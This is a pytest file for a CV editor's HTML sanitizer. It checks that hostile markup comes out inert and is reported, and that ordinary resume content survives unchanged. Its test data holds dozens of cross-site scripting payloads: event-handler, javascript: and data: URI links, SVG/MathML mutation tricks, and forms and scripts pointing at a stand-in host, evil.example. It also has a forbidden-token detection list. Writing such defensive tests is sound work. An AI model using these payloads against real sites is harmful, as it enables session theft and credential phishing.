"""The editor's HTML sanitizer: hostile input comes out inert and is reported; a CV survives unchanged."""

from __future__ import annotations

import re

import pytest

from pipeline.render.markdown import render_markdown
from pipeline.render.sanitize import MAX_EDITOR_BYTES, clean_editor_html

# Nothing of these may survive, whatever the input.
FORBIDDEN = (
    "<script", "</script", "onerror", "onload", "onclick", "onmouseover", "onfocus", "javascript:", "vbscript:", "data:",
    "<svg", "<math", "<iframe", "<object", "<embed", "<form", "<input", "<button", "<img", "<style", "style=",
    "expression(", "<!--", "<template", "<noscript", "<base", "<meta", "<link", "srcdoc", "xlink", "<textarea",
)

# (hostile html, a phrase `removed` must contain)
HOSTILE = [
    ("<p>Hi</p><script>alert(1)</script>", "1 script"),
    ("<script src='https://evil.example/x.js'></script><script>1</script><p>x</p>", "2 scripts"),
    ("<SCRIPT>alert(1)</SCRIPT>", "1 script"),
    ("<img src=x onerror=alert(1)>", "1 image"),
    ("<img src=x onerror=alert(1)>", "event handlers"),
    ('<p onclick="steal()" onmouseover="x()">Click</p>', "event handlers"),
    ('<body onload="alert(1)"><p>x</p></body>', "event handlers"),
    ('<a href="javascript:alert(1)">cv</a>', "unsafe link"),
    ('<a href="  JaVaScRiPt:alert(1)">cv</a>', "unsafe link"),
    ('<a href="jav&#x09;ascript:alert(1)">cv</a>', "unsafe link"),
    ('<a href="&#106;avascript:alert(1)">cv</a>', "unsafe link"),
    ('<a href="vbscript:msgbox(1)">cv</a>', "unsafe link"),
    ('<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">d</a>', "unsafe link"),
    ('<img src="data:image/png;base64,iVBORw0KGgo=">', "1 image"),
    ("<svg><script>alert(1)</script></svg>", "1 SVG graphic"),
    ('<svg onload="alert(1)"><circle r="4"/></svg>', "1 SVG graphic"),
    ('<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>', "1 SVG graphic"),
    ('<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>', "1 MathML formula"),
    ('<math href="javascript:alert(1)">CLICK</math>', "1 MathML formula"),
    ('<iframe src="https://evil.example" srcdoc="<script>1</script>"></iframe>', "1 embedded frame or object"),
    ('<object data="x.swf"></object><embed src="y.swf">', "2 embedded frames or objects"),
    ('<form action="https://evil.example"><input name="pw" type="password"><button>Go</button></form>', "form elements"),
    ("<form><form><input></form></form>", "form elements"),
    ('<p style="position:fixed;top:0;left:0;width:100%;height:100%">overlay</p>', "inline styles"),
    ('<span style="background:url(javascript:alert(1))">x</span>', "inline styles"),
    ('<p style="width: expression(alert(1))">x</p>', "inline styles"),
    ("<style>@import 'https://evil.example/x.css'; body{display:none}</style><p>x</p>", "1 style block"),
    ("<style>p{width:expression(alert(1))}</style>", "1 style block"),
    ("<!-- <script>alert(1)</script> --><p>x</p>", "comments"),
    ("<p>a<!--[if IE]><script>alert(1)</script><![endif]-->b</p>", "comments"),
    ("<template><img src=x onerror=alert(1)></template>", "unsupported tags (template)"),
    ("<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>", "noscript"),
    ('<base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=https://evil.example"><p>x</p>', "unsupported tags"),
    ('<link rel="stylesheet" href="https://evil.example/x.css"><p>x</p>', "unsupported tags (link)"),
    ("<p><b><i>unclosed <ul><li>x</p></b></div></table>", ""),
    ("<scr<script>ipt>alert(1)</script>", "malformed tag"),
    ('<div><img/src="x"/onerror="alert(1)"></div>', "1 image"),
    ('<p><a href="https://ok.example" onmouseover="alert(1)" target="_blank">ok</a></p>', "event handlers"),
    ('<video src=x onerror=alert(1)></video><audio src=y></audio>', "audio/video"),
    ("<textarea><script>alert(1)</script></textarea>", "form element"),
    ('<p><select><option>1</option></select>x</p>', "form elements"),
    ("<xmp><script>alert(1)</script></xmp>", "unsupported tags (xmp)"),
    ("<p>ok</p><plaintext><script>alert(1)</script>", "unsupported tags (plaintext)"),
    ('<table background="javascript:alert(1)"><tr><td style="x">1</td></tr></table>', "inline styles"),
]


@pytest.mark.parametrize("dirty, reported", HOSTILE, ids=[f"h{i}" for i in range(len(HOSTILE))])
def test_hostile_html_comes_out_inert(dirty, reported):
    result = clean_editor_html(dirty)
    low = result.html.lower()
    for bad in FORBIDDEN:
        assert bad not in low, f"{bad!r} survived in {result.html!r}"
    assert not re.search(r"\son\w+\s*=", low)
    if reported:
        assert any(reported in r for r in result.removed), result.removed
    # Cleaning is idempotent: the stored HTML needs no further cleaning.
    assert clean_editor_html(result.html).html == result.html
    assert clean_editor_html(result.html).removed == []


def test_text_is_kept_where_harmless():
    assert clean_editor_html("<font color=red>Python</font> <center>SQL</center>").html == "Python SQL"
    r = clean_editor_html('<a href="javascript:alert(1)">my site</a>')
    assert "my site" in r.html and "href" not in r.html
    r = clean_editor_html("<form><label>Name</label><button>Send</button></form>")
    assert "Name" in r.html and "Send" in r.html


def test_dropped_with_content():
    for tag in ("script", "style", "template", "noscript"):
        r = clean_editor_html(f"<p>keep</p><{tag}>secret</{tag}>")
        assert "secret" not in r.html and "keep" in r.html


BENIGN_MD = """# Jane Doe

Staff engineer · [jane@example.com](mailto:jane@example.com) · [GitHub](https://github.com/jane "profile")

## Experience

### Acme Corp — Staff Engineer (2019 - 2023)

- Led the **payments** migration to *Python 3.11*, cutting p95 latency by 40%
- Mentored 4 engineers; ~~old~~ new
  - nested detail with `code`

1. first
2. second

> A quote, with a hard
> break\\
> here.

---

| Skill | Years |
|-------|-------|
| Go    | 5     |
"""


def test_rendered_cv_survives_unchanged():
    html = render_markdown(BENIGN_MD)
    result = clean_editor_html(html)
    assert result.html == html
    assert result.removed == []


def test_hand_written_editor_markup_survives():
    html = (
        "<h2>Skills</h2><p><b>Python</b>, <i>SQL</i>, <u>Go</u>, <s>Perl</s><br>Kubernetes</p>"
        '<ul><li><span>one</span></li><li>two</li></ul><ol start="3"><li>three</li></ol>'
        "<blockquote><p>q</p></blockquote><hr>"
        '<table><thead><tr><th colspan="2">h</th></tr></thead><tbody><tr><td>1</td><td>2</td></tr></tbody></table>'
        '<p><a href="https://x.example/a?b=1&amp;c=2" rel="noopener noreferrer nofollow">link</a></p>'
        "<h4>Small</h4><p>AT&amp;T &lt;tag&gt; caf\u00e9 \u201cquotes\u201d</p>"
    )
    result = clean_editor_html(html)
    assert result.html == html and result.removed == []


def test_browser_divs_become_paragraphs():
    r = clean_editor_html("<h2>Skills</h2><div>Python</div><div><br></div><div>Go</div>")
    assert r.html == "<h2>Skills</h2><p>Python</p><p><br></p><p>Go</p>" and r.removed == []
    r = clean_editor_html("<div><p>a</p><div>b</div></div>")
    assert r.html == "<p>a</p><p>b</p>"


def test_removed_names_unknown_attributes_and_tags():
    r = clean_editor_html('<p class="MsoNormal" id="p1" data-x="1">x</p><font face="Arial">y</font>')
    assert r.html == "<p>x</p>y"
    assert "unsupported attributes (class, data-x, id)" in r.removed
    assert "unsupported tags (font)" in r.removed


def test_empty_and_plain_text():
    assert clean_editor_html("").html == ""
    assert clean_editor_html("just text").html == "just text"
    assert clean_editor_html("a < b & c").html == "a &lt; b &amp; c"


def test_oversize_raises_with_a_clear_message():
    ok = "<p>" + "x" * (MAX_EDITOR_BYTES - 10) + "</p>"
    assert clean_editor_html(ok).html == ok
    with pytest.raises(ValueError, match=r"too large to save .*limit is 400 KB"):
        clean_editor_html("<p>" + "x" * MAX_EDITOR_BYTES + "</p>")
    # Bytes, not characters: multi-byte text counts what travels over the websocket.
    with pytest.raises(ValueError):
        clean_editor_html("é" * (MAX_EDITOR_BYTES // 2 + 1))


def test_deep_nesting_is_refused_quickly():
    """html5ever is quadratic on thousands of nested blocks: refuse instead of burning seconds of CPU."""
    import time

    start = time.monotonic()
    with pytest.raises(ValueError, match="nested too deeply"):
        clean_editor_html("<div>" * 50_000)
    with pytest.raises(ValueError, match="nested too deeply"):
        clean_editor_html("<ul><li>" * 20_000)
    assert time.monotonic() - start < 5
    # Ordinary repetition is not nesting: thousands of sibling list items are fine.
    many = "<ul>" + "<li>x</li>" * 5_000 + "</ul>" + "<li>y" * 1_000
    assert clean_editor_html(many).html.count("<li>") == 6_000
